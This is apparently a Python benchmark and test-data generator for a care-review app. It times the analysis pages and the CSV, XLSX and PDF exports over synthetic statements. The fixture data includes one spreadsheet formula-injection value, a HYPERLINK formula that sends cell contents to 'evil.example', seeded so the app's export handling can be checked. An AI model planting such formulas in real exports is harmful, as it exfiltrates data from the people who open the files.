"""Gap analysis at scale: render time of the analysis page after themes are computed.

    .venv/bin/python benchmarks/analysis.py [--statements 20000] [--services 10] [--repeat 3]

Makes a throwaway app (temporary instance folder, SQLite), an organisation with ``--services``
services in three areas, ``--statements`` generated pooled statements over the four quarters of
2026 (plus a few unpooled and deleted ones, which must not count), themes them once
(``run_themes``; timed but not part of the goal), then times, with a signed-in manager:
the analysis page (goal: under 2 s), the report as data, and the CSV, XLSX and PDF downloads.
By default the themes are worked out as the app does it, by the Huey job (run in-process),
which also prepares the report's suppression; ``--no-job`` themes with ``run_themes`` only.
The last lines time the report and the page with nothing kept from earlier runs.

``generate(org, n, services)`` is also used by the tests (tests/test_analysis.py).
"""

from __future__ import annotations

import argparse
import random
import sys
import tempfile
import time
from datetime import date, timedelta
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

# topic -> (kind, phrasings); {x} is filled from the topic's words so texts vary
TOPICS: dict[str, tuple[str, list[str], list[str]]] = {
    "transport": ("not_working", ["The bus to {x} is always late", "I cannot get a bus to {x}",
                                  "The taxi to {x} did not come"],
                  ["college", "the day centre", "town", "work", "the shops"]),
    "staff_kind": ("working", ["The staff at {x} are kind", "My support worker at {x} listens",
                               "Staff at {x} help me a lot"],
                   ["home", "the house", "the centre", "college"]),
    "staff_change": ("not_working", ["Staff change too often at {x}",
                                     "I never know who is coming to {x}",
                                     "Too many agency staff at {x}"],
                     ["night", "weekends", "home", "the house"]),
    "cooking": ("idea", ["I want to learn to cook {x}", "Cooking lessons for {x} would be good",
                         "I would like to make {x} myself"],
                ["pasta", "curry", "breakfast", "cakes", "dinner"]),
    "holiday": ("idea", ["I want to go on holiday to {x}", "A trip to {x} would be nice",
                         "More days out to {x}"], ["the seaside", "the beach", "Blackpool",
                                                   "the zoo"]),
    "job": ("working", ["My job at the {x} is going well", "I like working at the {x}",
                        "Volunteering at the {x} is good"], ["café", "garden centre", "library"]),
    "bored": ("not_working", ["I get bored at {x}", "There is nothing to do at {x}",
                              "I am lonely at {x}"], ["weekends", "night", "home"]),
    "money": ("not_working", ["Help with {x} is confusing", "I worry about {x}",
                              "Nobody explains my {x}"], ["money", "bills", "benefits"]),
    "gym": ("working", ["I go to the gym on {x}", "Swimming on {x} is great",
                        "I play football on {x}"], ["Tuesdays", "Saturdays", "Mondays"]),
    "meetings": ("idea", ["I want to be asked about {x}", "Tell me about {x} earlier",
                          "I would like a say in {x}"], ["meetings", "my review", "changes"]),
    "food": ("working", ["The food at {x} is lovely", "I like the meals at {x}",
                         "Dinner at {x} is good"], ["home", "the centre", "lunch club"]),
    "doctor": ("not_working", ["I wait too long for the {x}", "Getting to the {x} is hard",
                               "The {x} appointment was cancelled"], ["doctor", "dentist",
                                                                      "hospital"]),
}
PERSONAL = ["Call Mrs Patel on 07700 900123 about the bus",
            "Email jo.bloggs@example.org about cooking",
            "Sarah Jones at 12 Acacia Avenue helps me cook"]
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
QUARTERS_2026 = [date(2026, 1, 1), date(2026, 4, 1), date(2026, 7, 1), date(2026, 10, 1)]


def make_organisation(services: int = 10, slug: str = "gen-org"):
    """An organisation with ``services`` services in three areas (committed)."""
    from reviewkit.extensions import db
    from reviewkit.models import Area, Organisation, Service

    org = Organisation(name="Generated Org", slug=slug)
    areas = [Area(organisation=org, name=n) for n in ("North", "South", "West")]
    db.session.add_all([org, *areas])
    for i in range(services):
        db.session.add(Service(organisation=org, area=areas[i % 3], name=f"Service {i + 1:02d}",
                               slug=f"service-{i + 1}"))
    db.session.commit()
    return org


def generate(org, n: int = 2000, *, seed: int = 7, bank: str = "person-centred-review",
             extra_unpooled: int | None = None, special: bool = True) -> dict:
    """Add ``n`` pooled statements spread (unevenly) over the organisation's services and the
    four quarters of 2026, plus unpooled and deleted ones that must never be counted. Returns
    what was added, for checks: {"pooled": n, "unpooled": m, "deleted": d, "texts": {...}}."""
    from sqlalchemy import insert

    from reviewkit.extensions import db
    from reviewkit.models import Statement
    from reviewkit.models.base import utcnow

    rnd = random.Random(seed)
    services = sorted(org.services, key=lambda s: s.id)
    weights = [1 + (i % 4) for i in range(len(services))]  # some services much smaller
    topics = list(TOPICS)
    topic_weights = [3 if i < 4 else 1 for i in range(len(topics))]
    rows = []

    def row(text, kind, service, day, pooled=True, deleted=False):
        return {"organisation_id": org.id, "service_id": service.id, "bank_id": bank,
                "section_id": "working-not-working", "kind": kind, "text": text,
                "language": "en", "pooled": pooled, "position": 0, "said_on": day,
                "deleted_at": utcnow() if deleted else None, "created_at": utcnow()}

    def day_in(q):
        return QUARTERS_2026[q] + timedelta(days=rnd.randint(0, 89))

    for i in range(n):
        if special and i < len(PERSONAL):
            text, kind = PERSONAL[i], "idea"
        elif special and i < len(PERSONAL) + 8:  # enough of them to be shown, not hidden
            rows.append(row(INJECTION, "not_working", services[0], QUARTERS_2026[1]))
            continue
        else:
            topic = rnd.choices(topics, topic_weights)[0]
            kind, phrasings, words = TOPICS[topic]
            text = rnd.choice(phrasings).format(x=rnd.choice(words))
            if rnd.random() < 0.1:  # people do not always say what the topic usually is
                kind = rnd.choice(["working", "not_working", "idea", "strength"])
        service = rnd.choices(services, weights)[0]
        rows.append(row(text, kind, service, day_in(rnd.randrange(4))))
    unpooled = extra_unpooled if extra_unpooled is not None else max(5, n // 20)
    for _ in range(unpooled):
        rows.append(row("SECRET unpooled statement about the bus", "not_working",
                        rnd.choice(services), day_in(rnd.randrange(4)), pooled=False))
        rows.append(row("SECRET deleted statement about cooking", "idea",
                        rnd.choice(services), day_in(rnd.randrange(4)), deleted=True))
    for start in range(0, len(rows), 2000):
        # on the table, not the ORM: its bulk insert sends each run of rows alike in which
        # values are None (deleted_at here) as its own statement
        db.session.execute(insert(Statement.__table__), rows[start:start + 2000])
    db.session.commit()
    return {"pooled": n, "unpooled": unpooled, "deleted": unpooled}


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--statements", type=int, default=20_000)
    parser.add_argument("--services", type=int, default=10)
    parser.add_argument("--repeat", type=int, default=3)
    parser.add_argument("--no-job", action="store_true",
                        help="theme with run_themes directly, not the Huey job (which also "
                             "prepares the report's suppression)")
    args = parser.parse_args(argv)

    from reviewkit import create_app
    from reviewkit.extensions import db
    from reviewkit.models import Role
    from reviewkit.services.setup import init_database
    from reviewkit.services.themes import Scope, run_themes
    from reviewkit.services.users import create_user

    tmp = Path(tempfile.mkdtemp(prefix="rk-bench-"))
    app = create_app({"INSTANCE_PATH": tmp / "instance", "TESTING": True,
                      "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp / 'instance' / 'b.db'}",
                      "HUEY_IMMEDIATE": True})
    with app.app_context():
        init_database()
        org = make_organisation(args.services)
        create_user(org, "manager@example.org", "Manager", "correct horse 1", Role.MANAGER)
        db.session.commit()
        t0 = time.perf_counter()
        generate(org, args.statements)
        print(f"generated {args.statements} statements in {time.perf_counter() - t0:.1f} s")
        t0 = time.perf_counter()
        if args.no_job:  # the themes only: the first page works the suppression out itself
            ts = run_themes(org, Scope(org.id))
            n_themes = len(ts.result["themes"])
        else:  # as the app does it: the Huey job (in-process), which also prepares the report
            from reviewkit.tasks import huey, theme_organisation

            huey.immediate = True
            n_themes = theme_organisation(org.id)()["themes"]
        print(f"themes computed in {time.perf_counter() - t0:.1f} s ({n_themes} themes"
              f"{', run_themes only' if args.no_job else ', Huey job with prepare()'})")
        org_id = org.id

    client = app.test_client()
    with app.app_context():
        token = _csrf(client.get("/staff/login").get_data(as_text=True))
    with app.app_context():
        client.post("/staff/login", data={"email": "manager@example.org",
                                          "password": "correct horse 1", "csrf_token": token})
    query = "?from=2026-Q1&to=2026-Q4"
    for name, url in [("analysis page", f"/staff/analysis/{query}"),
                      ("gap analysis page", f"/staff/analysis/gaps{query}"),
                      ("CSV download", f"/staff/analysis/download.csv{query}"),
                      ("statements CSV", f"/staff/analysis/statements.csv{query}"),
                      ("XLSX download", f"/staff/analysis/download.xlsx{query}"),
                      ("PDF download", f"/staff/analysis/download.pdf{query}")]:
        times = []
        for _ in range(args.repeat):
            t0 = time.perf_counter()
            with app.app_context():
                r = client.get(url)
            times.append(time.perf_counter() - t0)
            assert r.status_code == 200, (url, r.status_code, r.get_data(as_text=True)[:300])
        goal = "  (goal < 2 s)" if "page" in name else ""
        again = f"  again (report cached) {min(times[1:]):.2f} s" if len(times) > 1 else ""
        print(f"{name:20s} first {times[0]:.2f} s{again}  {len(r.data) / 1024:.0f} KB{goal}")
    with app.app_context():
        from reviewkit.reports import gap
        from reviewkit.reports.filters import Filters
        from reviewkit.reports.themes import theme_set_for

        filters = Filters(org_id, since=date(2026, 1, 1), until=date(2026, 12, 31))
        for name, forget in (("report as data, nothing kept", True),
                             ("report as data, audit kept", False)):
            gap.forget(answers=forget)
            if forget:  # no report, no suppression kept in this process or the theme set
                _forget_stored(theme_set_for(filters))
            t0, c0 = time.perf_counter(), time.process_time()
            report = gap.make_report(filters, with_statements=False)
            print(f"{name:28s} {time.perf_counter() - t0:.2f} s "
                  f"(CPU {time.process_time() - c0:.2f} s; {len(report.themes)} themes, "
                  f"{len(report.cells)} rows, {sum(v is None for v in report.published.values())}"
                  f" hidden of {len(report.published)} published numbers)")
        gap.forget()
        _forget_stored(theme_set_for(filters))
    t0 = time.perf_counter()
    with app.app_context():
        assert client.get(f"/staff/analysis/{query}").status_code == 200
    print(f"analysis page, nothing kept (no job, no cache) {time.perf_counter() - t0:.2f} s"
          "  (goal < 2 s)")
    return 0


def _forget_stored(ts) -> None:
    from reviewkit.extensions import db

    if ts is not None and (ts.result or {}).get("suppression"):
        ts.result = {k: v for k, v in ts.result.items() if k != "suppression"}
        db.session.commit()


def _csrf(html: str) -> str:
    import re

    return re.search(r'name="csrf_token"[^>]*value="([^"]+)"', html).group(1)


if __name__ == "__main__":
    raise SystemExit(main())
